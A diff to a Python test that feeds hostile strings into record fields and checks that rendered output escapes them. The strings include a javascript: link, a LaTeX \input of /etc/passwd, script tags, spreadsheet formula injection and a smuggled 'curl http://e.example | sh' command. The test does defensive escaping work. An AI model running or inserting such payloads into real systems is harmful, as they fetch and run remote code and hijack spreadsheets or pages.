@@ -233,7 +233,7 @@ def test_text_of_a_record_is_shown_as_text_everywhere(world: World):
         put("cards.dataset.note", f"[x](javascript:alert(1)) \\[x](http://e.example) \n\\input{{/etc/passwd}}{HTML}{ESCAPES}")(
             record
         )
-        put("command", "harness run psnr --dataset demo; curl http://e.example | sh\n```\n<script>alert(1)</script>")(record)
+        put("request.dataset", "demo; curl http://e.example | sh\n```\n<script>alert(1)</script>")(record)
         put("trained_on", ["=cmd|' /C calc'!A0", "+1"])(record)
         put("conditions.device", f"=1+1{ESCAPES}")(record)
         published = {
@@ -254,7 +254,7 @@ def test_text_of_a_record_is_shown_as_text_everywhere(world: World):
     assert "<img" not in text
     assert "](javascript" not in text
     assert "](http" not in text
-    assert "```" not in text
+    assert text.count("```") in (0, 2)
     rows = [line for line in text.splitlines() if line.startswith("|") and "psnr" in line]
     assert len({line.replace(r"\|", "").count("|") for line in rows if "x \\|" in line}) == 1
     assert "'=1+1" in (boards / "table.csv").read_text()
